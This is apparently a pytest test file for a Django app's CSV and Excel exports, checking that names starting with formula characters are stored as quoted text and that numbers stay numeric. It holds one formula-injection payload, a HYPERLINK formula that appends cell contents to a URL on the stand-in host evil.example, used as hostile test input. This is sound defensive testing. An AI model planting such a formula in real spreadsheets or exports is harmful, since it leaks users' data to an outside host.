"""Exports never hand a spreadsheet program a formula (CSV and Excel), and numbers stay numbers."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from core.exports import csv_response, xlsx_response
from neighbourhoods.tests.factories import BuurtFactory
from partnerships.tests.factories import InitiativeFactory, PartnershipFactory

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1,"Klik hier")'


def read_csv(response):
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def read_xlsx(response):
    return load_workbook(io.BytesIO(response.content)).active


@pytest.mark.parametrize(
    "url_name, make",
    [
        ("initiatives:export", lambda: InitiativeFactory(name=HOSTILE)),
        ("partnerships:export", lambda: PartnershipFactory(initiative__name=HOSTILE)),
        ("neighbourhoods:export", lambda: BuurtFactory(name=HOSTILE)),
    ],
)
def test_a_name_that_is_a_formula_stays_text_in_csv_and_excel(client, lezer, url_name, make):
    make()
    client.force_login(lezer)
    url = reverse(url_name)

    rows = read_csv(client.get(url))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + HOSTILE in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)

    sheet = read_xlsx(client.get(url, {"formaat": "xlsx"}))
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value is not None]
    hostile = [cell for cell in cells if HOSTILE in str(cell.value)]
    assert [(c.value, c.data_type) for c in hostile] == [("'" + HOSTILE, "s")]
    assert not any(cell.data_type == "f" for cell in cells)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_dangerous_start_is_neutralised_and_numbers_stay_numbers(start):
    header = ["Tekst", "Geheel", "Negatief", "Decimaal", "Kommagetal", "Leeg"]
    row = [f"{start}1+1", 12, -5, Decimal("-1.50"), -2.25, None]

    sheet = read_xlsx(xlsx_response("x.xlsx", header, [row]))
    text, whole, negative, decimal, floating, empty = next(sheet.iter_rows(min_row=2))
    # (depending on the XML parser openpyxl finds, a carriage return reads back as a line feed)
    assert (text.value.replace("\r", "\n"), text.data_type) == (f"'{start}1+1".replace("\r", "\n"), "s")
    assert (whole.value, whole.data_type) == (12, "n")
    assert (negative.value, negative.data_type) == (-5, "n")
    assert (decimal.value, decimal.data_type) == (-1.5, "n")
    assert (floating.value, floating.data_type) == (-2.25, "n")
    assert empty.value is None

    [_header, csv_row] = read_csv(csv_response("x.csv", header, [row]))
    assert csv_row == [f"'{start}1+1", "12", "-5", "-1.50", "-2.25", ""]


def test_ordinary_text_and_control_characters_in_excel():
    row = ["Energiecoöperatie 'De Zon'", "Naam\x01 met\x0bstuurteken"]
    sheet = read_xlsx(xlsx_response("x.xlsx", ["a", "b"], [row]))
    ordinary, control = next(sheet.iter_rows(min_row=2))
    assert ordinary.value == "Energiecoöperatie 'De Zon'"
    assert control.value == "Naam metstuurteken"  # left out: the format cannot hold them
